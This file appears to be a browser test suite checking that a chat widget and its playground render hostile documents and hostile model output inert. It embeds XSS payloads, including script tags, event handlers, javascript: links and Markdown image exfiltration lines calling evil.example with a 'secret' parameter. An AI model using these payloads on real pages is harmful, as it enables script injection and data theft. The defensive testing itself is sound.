import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { serveStatic, type StaticServer } from '../../scripts/static-server.ts';
import { launch } from './browser';
import { PLAYGROUND, buildExampleSite, confineTo, recordDialogs, requireBuild, waitForElement, watchElementEvents } from './built';
import { installScriptedLlm } from './scripted-llm';

/**
 * Hostile documents and hostile model output through the built playground and
 * the element on the example page: script tags, event handlers, javascript:
 * links and Markdown images (an exfiltration channel) must render inert, with
 * no request leaving the page's origin. (The 291-payload sweep of the renderer
 * itself is in xss.test.ts.)
 */
const EVIL = 'http://evil.example';
const HOSTILE_MD = `# Refund exploits

The refund window <script>alert('doc-script')</script> is a trap.

<img src=x onerror="alert('doc-img')"> refund window <svg onload="alert('doc-svg')"></svg>

[refund form](javascript:alert('doc-js-link')) and ![refund chart](${EVIL}/leak.png?c=secret) and <a href="javascript:alert('doc-a')">refund</a>

<iframe src="${EVIL}/frame"></iframe> <form action="${EVIL}/steal"><button>refund window</button></form>
`;
const HOSTILE_HTML = `<html><body><h1>Refund window hacks</h1><p onclick="alert('html-p')">The refund window <b>is</b> <img src="${EVIL}/pixel.gif" onerror="alert('html-img')"></p><script>alert('html-script')</script><a href="javascript:alert('html-a')">refund</a></body></html>`;
/** Plain text keeps markup verbatim (Markdown and HTML parsing drop tags), so the passages carry live-looking HTML. */
const HOSTILE_TEXT = `Refund window notes: <script>alert('txt-script')</script> <img src=x onerror="alert('txt-img')"> <a href="javascript:alert('txt-a')">refund</a> <iframe src="${EVIL}/t"></iframe>`;
const HOSTILE_ANSWER = `Refund window answer <script>alert('llm-script')</script> <img src=x onerror=alert('llm-img')> [details](javascript:alert('llm-link')) ![leak](${EVIL}/llm.png?c=secret) <a href="javascript:alert('llm-a')">x</a> [1]`;

let browser: Browser;
let playground: StaticServer;
let site: StaticServer;

beforeAll(async () => {
  requireBuild();
  playground = await serveStatic(PLAYGROUND);
  site = await serveStatic(await buildExampleSite('hostile-site', { 'exploits.md': HOSTILE_MD, 'hacks.html': HOSTILE_HTML, 'notes.txt': HOSTILE_TEXT }));
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
  await playground?.close();
  await site?.close();
});

/** Dangerous DOM where untrusted text is rendered. */
async function dangerousDom(page: Page, inShadow: boolean): Promise<string[]> {
  return page.evaluate((shadow) => {
    // Where untrusted text is rendered: the element's log, or the playground's chat.
    const root: ParentNode | null | undefined = shadow ? document.querySelector('threadline-chat')?.shadowRoot?.querySelector('.log') : document.querySelector('#chat');
    if (!root) return ['no root'];
    const found: string[] = [];
    for (const el of root.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (['script', 'iframe', 'img', 'svg', 'object', 'embed', 'form', 'video', 'audio'].includes(tag)) found.push(`<${tag}>`);
      for (const attr of el.attributes) {
        if (attr.name.startsWith('on')) found.push(`${tag}[${attr.name}]`);
        if (['href', 'src', 'action', 'formaction'].includes(attr.name) && !/^(https?:|#)/i.test(attr.value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
      }
    }
    return found;
  }, inShadow);
}

describe('hostile documents and model output in the built pages', () => {
  it('the playground renders them inert: no script runs, no dangerous DOM, no foreign request', async () => {
    const context = await browser.newContext();
    const foreign = await confineTo(context, playground.origin);
    const page = await context.newPage();
    const dialogs = recordDialogs(page);
    await installScriptedLlm(page, HOSTILE_ANSWER);
    await page.goto(`${playground.origin}/`);
    await page.waitForFunction(() => /^Ready\./.test(document.querySelector('#status')?.textContent ?? ''), undefined, { timeout: 60_000 });
    await page.setInputFiles('#files', [
      { name: 'exploits.md', mimeType: 'text/markdown', buffer: Buffer.from(HOSTILE_MD) },
      { name: 'hacks.html', mimeType: 'text/html', buffer: Buffer.from(HOSTILE_HTML) },
      { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from(HOSTILE_TEXT) },
    ]);
    await page.waitForFunction(() => document.querySelector('#index-info')?.getAttribute('data-docs') === '3');
    await page.check('#details');
    await page.check('#compare');
    await page.fill('#question', 'what is the refund window?');
    await page.press('#question', 'Enter');
    await page.locator('.tl-turn .tl-mode:not([hidden])').waitFor();
    // Open every passage so document text is in the DOM too.
    for (const toggle of await page.locator('.tl-source-toggle').all()) await toggle.click();
    expect(await page.locator('.tl-passage-text').allTextContents()).toContainEqual(expect.stringContaining("<img src=x onerror=\"alert('txt-img')\">"));
    expect(await page.locator('.tl-answer').textContent()).toContain("<script>alert('llm-script')</script>");
    expect(await page.locator('.tl-answer .tl-image').count()).toBeGreaterThan(0);
    expect(await dangerousDom(page, false)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    await context.close();
  });

  it('the element on the example page renders them inert, with a hostile model set through its llm property', async () => {
    const context = await browser.newContext();
    const foreign = await confineTo(context, site.origin);
    const page = await context.newPage();
    const dialogs = recordDialogs(page);
    await installScriptedLlm(page, HOSTILE_ANSWER);
    await watchElementEvents(page);
    // Set before the element upgrades: the property must still take effect.
    await page.addInitScript(() => {
      document.addEventListener('readystatechange', () => {
        const el = document.querySelector<HTMLElement & { llm?: unknown }>('threadline-chat');
        if (el && document.readyState === 'interactive') el.llm = (window as unknown as { threadlineLlm: unknown }).threadlineLlm;
      });
    });
    await page.goto(`${site.origin}/index.html`);
    expect(await waitForElement(page)).toMatchObject({ type: 'threadline-ready', detail: { docs: 3, llm: 'scripted-fake-llm' } });
    const chat = page.locator('threadline-chat');
    await chat.locator('input').fill('what is the refund window?');
    await chat.locator('input').press('Enter');
    await chat.locator('.tl-turn .tl-mode:not([hidden])').waitFor();
    for (const toggle of await chat.locator('.tl-source-toggle').all()) await toggle.click();
    expect(await chat.locator('.tl-passage-text').allTextContents()).toContainEqual(expect.stringContaining("<script>alert('txt-script')</script>"));
    expect(await chat.locator('.tl-answer').textContent()).toContain("<img src=x onerror=alert('llm-img')>");
    expect(await dangerousDom(page, true)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    await context.close();
  });
});
